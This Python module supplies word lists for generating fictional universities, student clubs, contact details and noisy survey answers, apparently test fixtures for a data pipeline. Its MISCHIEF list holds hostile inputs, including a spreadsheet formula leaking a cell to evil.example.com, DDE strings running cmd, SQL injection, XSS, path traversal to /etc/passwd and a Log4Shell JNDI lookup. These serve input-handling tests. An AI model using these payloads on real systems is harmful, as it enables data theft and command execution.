"""Words that the made-up world and its crowd are built of. Nothing here names a real university or person."""

PLACE_FIRST = (
    "Quill", "Larken", "Thistle", "Bramble", "Ember", "Fennel", "Gossam", "Ibbin", "Junip", "Kestrel", "Lumen",
    "Marrow", "Nettle", "Osprel", "Pember", "Quince", "Rook", "Saffer", "Tarn", "Umber", "Vesper", "Willet",
    "Yarrow", "Zephyr", "Alder", "Cinder", "Dapple", "Fallow",
)  # fmt: skip
PLACE_LAST = (
    "moor", "fell", "wick", "mere", "combe", "dell", "garth", "holt", "stead", "wold", "burrow", "vane", "quay",
    "thorpe", "hythe", "reach",
)  # fmt: skip
UNIVERSITY_FORMS = (
    ("{p} University", "{p}"),
    ("University of {p}", "{p}"),
    ("{p} State University", "{p}state"),
    ("{p} College", "{p}college"),
    ("{p} Institute of Technology", "{p}tech"),
)
DIRECTORIES = (
    "https://www.{s}.example.edu/student-life/clubs",
    "https://clubs.{s}.example.edu/organizations",
    "https://{s}.campusportal.example.com/groups",
    "https://www.{s}.example.edu/involvement/student-organizations",
)
TOPICS = tuple(
    (name, "".join(letter for letter in slug.lower() if letter.isascii() and letter.isalnum()))
    for name, slug in (
        *((t, t) for t in (
            "Chess", "Robotics", "Debate", "Hiking", "Jazz", "Astronomy", "Film", "Salsa", "Rowing", "Poetry",
            "Cycling", "Choir", "Photography", "Economics", "Karate", "Gardening", "Rocketry", "Coding", "Anime",
            "Fencing", "Climbing", "Pottery", "Origami", "Archery", "Swimming", "Knitting", "Theatre", "Physics",
            "Biology", "History", "Baking", "Sailing", "Skiing", "Juggling", "Improv", "Ceramics", "Calligraphy",
            "Beekeeping", "Badminton", "Quiz", "Radio", "Philosophy", "Geology", "Statistics",
        )),
        ("Pre-Dental", "predental"), ("Pre-Law", "prelaw"), ("Women's Rugby", "womensrugby"),
        ("Café Français", "cafefrancais"), ("Salsa & Bachata", "bachata"), ("Go (Baduk)", "baduk"),
    )
)  # fmt: skip
CLUB_FORMS = ("Club", "Club", "Club", "Society", "Society", "Association", "Team", "Collective")

FACEBOOK, INSTAGRAM = "https://www.facebook.com/", "https://www.instagram.com/"
# {s} the university, {t} its beginning (a handle on Instagram has 30 letters at most), {c} the club, {n} a number.
CONTACT_FORMS = {
    "email": (
        "{c}@{s}.example.edu",
        "{c}@{s}.example.edu",
        "{s}{c}@clubs.example.org",
        "{c}.president@{s}.example.edu",
        "contact@{s}{c}.example.org",
    ),
    "email_2": ("{c}.treasurer@{s}.example.edu", "{c}.vp@{s}.example.edu", "hello@{s}{c}.example.com"),
    "facebook": tuple(FACEBOOK + h for h in ("{s}{c}", "{s}{c}", "{s}{c}", "{s}{c}club", "{s}-{c}-club-{n}")),
    "instagram": tuple(INSTAGRAM + h for h in ("{t}{c}", "{t}_{c}", "{c}.{t}", "{c}_{t}")),
    "website": (
        "https://{c}.{s}.example.edu",
        "https://www.{s}{c}.example.org",
        "https://sites.example.org/{s}-{c}",
        "https://{s}{c}.example.com",
    ),
}

# Area codes in use of some states; with 555-0100 to 555-0199 they make the numbers reserved for fiction.
AREA_CODES = {
    "AL": (205, 251), "AZ": (480, 520), "AR": (479, 501), "CO": (303, 719), "CT": (203, 860), "DE": (302,),
    "FL": (305, 407), "GA": (404, 706), "ID": (208,), "IL": (217, 312), "IN": (317, 574), "IA": (319, 515),
    "KS": (316, 785), "KY": (502, 606), "ME": (207,), "MN": (218, 612), "MT": (406,), "NE": (308, 402),
    "NM": (505, 575), "NV": (702, 775), "NY": (315, 518), "OH": (216, 614), "OK": (405, 918), "OR": (503, 541),
    "TN": (423, 615), "TX": (210, 512), "UT": (435, 801), "VT": (802,), "WA": (206, 509), "WI": (414, 608),
}  # fmt: skip

BLANKS = ("", "", "", "", "", "-", "n/a", "N/A", ".", "?", "Page error")
NONES = ("none", "None", "none", "No email", "not found", "Not available", "not available", "there is none")
COMMENTS = (
    "good survey", "Nice task, thank you", "The page took long to load", "I could not open the link",
    "No contact page, only a form", "please check the link", "same office for all clubs", "ok",
)  # fmt: skip
JUNK_WORDS = ("good", "asdf", "very nice", "ok thanks", "test 123", "qwerty", "yes it is good", "done")

# In an order in which any few neighbours are of different kinds: a small batch has one of each kind.
MISCHIEF = (
    '=HYPERLINK("https://evil.example.com/?leak="&A1,"click here")',
    "'; DROP TABLE leads;--",
    "<script>alert(1)</script>",
    "bell\x07 escape\x1b[31m nul\x00 end",
    "../../../../etc/passwd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "<img src=x onerror=alert(1)>",
    "two\r\nlines, \"quotes\" and 'more', with; separators|here",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "<b>bold</b> & <a href='https://evil.example.com'>link</a>",
    "right-to-left \u202egnp.exe",
    "file:///etc/passwd",
    "+cmd|' /C calc'!A0",
    "\r=1+1",
    "${jndi:ldap://evil.example.com/a}",
    "＝1+1",
    "{{7*7}}",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "💥🔥👩\u200d👩\u200d👧",
)
LONG_CELL = "A" * 40_000
